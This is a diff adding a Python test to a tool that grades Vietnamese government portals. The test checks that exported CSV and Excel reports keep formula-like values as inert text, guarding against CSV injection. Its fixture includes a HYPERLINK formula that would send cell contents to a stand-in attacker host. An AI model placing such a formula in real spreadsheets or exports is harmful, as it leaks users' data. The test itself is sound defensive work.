@@ -3,10 +3,13 @@
 from __future__ import annotations
 
 import base64
+import csv
 import hashlib
 import re
 from datetime import UTC, datetime
 from pathlib import Path
+
+from openpyxl import load_workbook
 
 from assessor.artifacts.function import FunctionFacts, LoginOutcome
 from assessor.criteria import load_rubric
@@ -78,3 +81,34 @@ def test_a_graded_portal_whose_login_failed_says_so_in_the_ranking(tmp_path: Pat
     assert line.grade is not None and line.error.startswith("Không đăng nhập được bằng công thức đăng nhập (step 2")
     html = write_campaign_report(store, campaign)["html"].read_text(encoding="utf-8")
     assert "(step 2 (fill): &lt;không thấy ô&gt;)" in html
+
+
+def test_exported_text_that_a_spreadsheet_would_run_as_a_formula_stays_text(tmp_path: Path) -> None:
+    """A portal's error (whose words a portal can choose: a redirect's target, a login step's
+    message) or a name starting with = + - @ opens in a spreadsheet as text, never as a formula
+    (OWASP's CSV injection): the workbook's cells are typed as text, the CSV's are led by an
+    apostrophe. Numbers, negative ones included, stay numbers."""
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"bấm")'
+    store = open_store(tmp_path / "db.sqlite3")
+    older = store.create_campaign("older", "p.yaml", str(tmp_path / "older"), None, {})
+    good = score(RUBRIC, make_snapshot(page(html="<html lang='vi'><head><title>T</title></head><body>x</body></html>")))
+    store.save_result(older, PortalInfo("p1", "Cổng", "ministry", "https://a.gov.vn/"), datetime.now(UTC),
+                      assessment=good)
+    campaign = store.create_campaign("c", "p.yaml", str(tmp_path / "c"), None, {})
+    store.save_result(campaign, PortalInfo("p1", "@SUM(1+1)", "ministry", "https://a.gov.vn/"), datetime.now(UTC),
+                      assessment=score(RUBRIC, make_snapshot(page(html="<html><body>x</body></html>"))))
+    store.save_result(campaign, PortalInfo("p2", "Cổng tỉnh", "province", "https://b.gov.vn/"), datetime.now(UTC),
+                      error=formula)
+    paths = write_campaign_report(store, campaign)
+
+    sheet = load_workbook(paths["excel"])["ranking"]
+    header = [cell.value for cell in sheet[1]]
+    first, failed = ({name: cell for name, cell in zip(header, row, strict=True)} for row in sheet.iter_rows(min_row=2))
+    assert (failed["error"].value, failed["error"].data_type) == (formula, "s")
+    assert (first["name"].value, first["name"].data_type) == ("@SUM(1+1)", "s")
+    assert isinstance(first["change"].value, float) and first["change"].value < 0 and first["change"].data_type == "n"
+
+    with paths["ranking_csv"].open(encoding="utf-8-sig", newline="") as handle:
+        first_csv, failed_csv = csv.DictReader(handle)
+    assert (failed_csv["error"], first_csv["name"]) == ("'" + formula, "'@SUM(1+1)")
+    assert float(first_csv["change"]) < 0
